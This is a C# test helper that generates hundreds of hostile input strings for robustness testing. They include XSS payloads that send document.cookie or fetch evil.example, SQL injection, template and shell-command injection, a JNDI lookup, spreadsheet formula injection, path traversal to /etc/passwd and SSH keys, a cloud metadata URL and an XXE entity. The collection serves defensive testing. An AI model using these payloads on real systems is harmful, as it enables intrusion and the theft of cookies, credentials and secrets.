namespace InfoStory.Testing;

/// <summary>More than 300 strings that have broken a program somewhere, made from families. All are one line, of letters a person could paste.</summary>
public static class HostileText
{
    public static IReadOnlyList<string> All { get; } = [.. Markup().Concat(Queries()).Concat(Templates())
        .Concat(Paths()).Concat(Numbers()).Concat(Scripts()).Concat(Searches()).Distinct(StringComparer.Ordinal)];

    /// <summary>What no letter is, alone, doubled, beside marks and letters, and broken: nothing keeps it, and nothing may break by it.</summary>
    public static IReadOnlyList<string> Unkept { get; } = [.. Broken().Distinct(StringComparer.Ordinal)];

    private static IEnumerable<string> Broken()
    {
        string[] broken = ["\ufffe", "\uffff", "\U0001fffe", "\ufdd0", "\ufffd", "\ud83d", "\ude00"];
        string[] frames = ["{0}", "{0}{0}", "{0}\u0301", "\u0301{0}", "abc{0}\u0301", "é{0}e\u0301{0}", "{0}@example.org", "a@{0}.example", "07700 900{0}123"];
        return broken.SelectMany(letter => frames.Select(frame => frame.Replace("{0}", letter, StringComparison.Ordinal)));
    }

    private static IEnumerable<string> Markup()
    {
        string[] acts = ["alert(1)", "fetch('//evil.example')", "document.cookie"];
        string[] frames =
        [
            "<script>{0}</script>", "</script><script>{0}</script>", "\"><script>{0}</script>",
            "'><img src=x onerror={0}>", "</textarea><script>{0}</script>", "</title><svg onload={0}>",
            "<svg><animate onbegin={0} attributeName=x>", "<a href=\"javascript:{0}\">x</a>",
            "\" autofocus onfocus={0} x=\"", "' onmouseover='{0}", "`${{{0}}}`", "<iframe srcdoc='<script>{0}</script>'>",
            "<math><mtext></p><style><img src onerror={0}>", "<details open ontoggle={0}>",
            "<!--><script>{0}</script-->", "<![CDATA[<script>{0}</script>]]>", "<style>@import '{0}'</style>",
            "<form action=//evil.example><button>{0}", "<base href=//evil.example>{0}",
            "<meta http-equiv=refresh content='0;url=javascript:{0}'>", "&lt;script&gt;{0}&lt;/script&gt;", "&#60;script&#62;{0}",
            "<ScRiPt>{0}</sCrIpT>", "<script\t>{0}</script\t>", "</p></div></main></body></html>{0}", "<plaintext>{0}",
            "<input value=\"{0}\">", "]]>{0}", "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>{0}",
        ];
        return frames.SelectMany(frame => acts.Select(act => frame.Replace("{0}", act, StringComparison.Ordinal)));
    }

    private static IEnumerable<string> Queries()
    {
        string[] ends = ["--", "#", ";--", "/*", ""];
        string[] starts =
        [
            "' OR '1'='1", "\" OR \"\"=\"", "'; DROP TABLE Stories; ", "1; DELETE FROM CaseStudies ",
            "') UNION SELECT * FROM Staff ", "'||(SELECT Value FROM Secrets)||'", "1) OR (1=1",
            "%' OR Title LIKE '%", "@p0", "$1", "NULL", "\\'; EXEC xp_cmdshell('x') ", "' AND RANDOMBLOB(1000000000) "
        ];
        return starts.SelectMany(start => ends.Select(end => start + end));
    }

    private static IEnumerable<string> Templates() =>
        ["{0}", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "@(7*7)", "@Model.Secret", "@{ throw null; }", "@Html.Raw(\"<b>\")",
            "{Reference}", "%s%n%x", "%1$s", "{{constructor.constructor('x')()}}", "${jndi:ldap://evil.example/a}",
            "$(reboot)", "`reboot`", "; reboot", "| reboot", "&& reboot", "[[x]]", "{% debug %}", "=cmd|'/c calc'!A0", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+9)*cmd|' /C calc'!A0", "=HYPERLINK(\"//evil.example\")", "{\"$gt\":\"\"}", "[object Object]", "__proto__", "constructor"];

    private static IEnumerable<string> Paths() =>
    [
        "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd%00.png", "%2e%2e%2f", "file:///etc/passwd",
        "http://169.254.169.254/latest/meta-data/", "//evil.example/", "\\\\evil.example\\share", "CON", "NUL", "LPT1",
        "~/.ssh/id_rsa", "C:\\", ".htaccess", "web.config", "a/../b", "%00", "%0d%0aSet-Cookie: a=b", "%ff%fe", "%u0041"
    ];

    private static IEnumerable<string> Numbers() =>
    [
        "0", "-1", "1e309", "NaN", "Infinity", "0x7fffffff", "2147483649", "9223372036854775808", "1,000.00", "1.000,00", "٣",
        "１２", "true", "false", "null", "undefined", "None", "nil", "\"", "'", "\\", "\\\\", "\\n", "\\u0000", "&", "&&", "&amp;",
        "&nbsp;", "<", ">", "<>", "<!--", "-->", "<br>", "--", "/*", "*/", ";", "#", "?", "%", "%%", "+", "=", "_", "^", "~", "|"
    ];

    private static IEnumerable<string> Scripts() =>
        ["Ünïcödé", "Ysgol Gyfun Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch", "Zażółć gęślą jaźń", "ہم نے تین بار فون کیا",
            "أهلا بالعالم", "שלום", "你好，世界", "こんにちは", "안녕하세요", "สวัสดี", "ዓለም", "ᚠᚢᚦᚨᚱᚲ", "👩‍👩‍👧‍👦", "🏴󠁧󠁢󠁷󠁬󠁳󠁿", "👍🏽👎🏿",
            "e\u0301\u0301\u0301\u0301", "Z͑ͫ̓a̴̵̶l̷̸g̨o̧", "İstanbul ıI", "ß ẞ SS", "ﬁ ﬂ ﬀ", "Ω Ω", "Å Å", "ǅ ǆ", "𝕱𝖗𝖆𝖐𝖙𝖚𝖗", "𐐷𐐀",
            "½ ² ³ ①", "‘quotes’ “quotes” «quotes»", "a\u200bb\u200cc\u200dd", "\u2028line\u2028separator", "soft\u00adhyphen", "non\u00a0breaking",
            "left\u200eright\u200fmarks", "\u2066isolated\u2069", "tab\tin\tit", "…—–‐‑", "㋿ ㍻", "ＦＵＬＬ", "ﷺ", "ॐ", "مرحبا <b>abc</b> مرحبا", "\ufeffbom"];

    private static IEnumerable<string> Searches()
    {
        string[] words = ["nurse", "title", "\"two words\""];
        string[] frames =
        [
            "{0} AND", "{0} OR NOT", "NOT {0}", "NEAR({0}, 5)", "{0}*", "^{0}", "Title:{0}", "{{Title Body}}:{0}", "-{0}", "+{0}", "({0}", "{0})", "\"{0}",
            "{0}\"\"", "{0} NEAR/2 {0}", "rowid:{0}", "{0} MATCH 'x'", "SearchIndex:{0}", "FORMSOF(INFLECTIONAL, {0})", "{0} ~2", "ISABOUT({0} WEIGHT(.9))"
        ];
        return frames.SelectMany(frame => words.Select(word => frame.Replace("{0}", word, StringComparison.Ordinal)
            .Replace("{{", "{", StringComparison.Ordinal).Replace("}}", "}", StringComparison.Ordinal)));
    }
}
